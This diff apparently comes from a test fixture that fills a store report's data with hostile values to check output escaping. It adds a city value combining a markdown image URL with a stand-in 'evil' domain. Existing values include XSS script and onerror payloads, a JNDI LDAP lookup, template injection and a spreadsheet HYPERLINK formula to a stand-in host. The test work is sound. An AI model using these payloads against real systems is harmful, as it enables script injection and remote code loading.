@@ -21,6 +21,8 @@ STORE, MONTH = "S1", "2026-09"
 
 STORE_NAME = "<script>alert(1)</script>\"店'"
 REGION = "{% raw %}${jndi:ldap://evil/a}"
+#: a URL and an image in the data: text in every output, never a link or an image (14.7)
+CITY = "![c](http://127.0.0.1:18999/city.png) www.evil.example"
 CONSULTANTS = {  # S1's: C11, C12 have leads, visits, orders; C13, C14 visits only
     "C11": "{{ 7*7 }}<img src=x onerror=alert(1)>",
     "C12": '=HYPERLINK("http://evil","x")',
@@ -71,7 +73,7 @@ def make_hostile_data(folder: Path) -> Path:
 
     def store(row):
         if row["store_id"] == STORE:
-            row.update(store_name=STORE_NAME, region=REGION)
+            row.update(store_name=STORE_NAME, region=REGION, city=CITY)
 
     def consultant(row):
         row["name"] = CONSULTANTS.get(row["consultant_id"], row["name"])
